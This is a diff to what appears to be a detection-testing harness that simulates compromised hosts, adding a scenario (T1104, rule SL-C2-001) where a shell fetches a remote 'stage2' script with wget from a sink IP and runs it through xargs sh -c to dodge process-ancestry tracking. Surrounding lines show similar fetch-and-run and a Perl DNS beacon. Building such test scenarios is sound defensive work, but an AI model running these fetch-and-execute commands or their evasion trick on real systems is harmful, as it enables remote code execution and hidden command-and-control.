@@ -564,6 +564,14 @@ def _cw_inline(ctx: Ctx) -> None:
     ctx.exec(f'sh -c "$(wget -q -O- http://{SINK_IP}/stage2)" stage 9002')
 
 
+def _cw_inline_wrapped(ctx: Ctx) -> None:
+    # the fetch in a subshell's child (`$(wget ... | cat)`: wget's parent is
+    # a subshell that only forked, in no exec table), the interpreter run by
+    # a wrapper that forks and waits (xargs): the fetch is the wrapper's
+    # sibling's child. Beacons to port 9005 (a suppression key of its own)
+    ctx.exec(f's="$(wget -q -O- http://{SINK_IP}/stage2 | cat)"; echo 9005 | xargs sh -c "$s" stage')
+
+
 def _cw_dns(ctx: Ctx) -> None:
     ctx.exec(f"{put('/tmp/.d.pl', DNS_PL)}; perl /tmp/.d.pl {SINK_IP} 5353 40")
 
@@ -764,6 +772,14 @@ COMPROMISED: tuple[Scenario, ...] = tuple(
             '`sh -c "$(wget -O- URL)"`: the fetched script on the shell\'s command line, which beacons to a second '
             "host",
             _cw_inline,
+        ),
+        (
+            "cw-inline-wrapped-stage",
+            "T1104",
+            ("SL-C2-001",),
+            "the fetched script kept from a subshell (`$(wget -O- URL | cat)`) and run by `xargs sh -c`, which "
+            "beacons to a second host",
+            _cw_inline_wrapped,
         ),
         (
             "cw-dns-other-port",
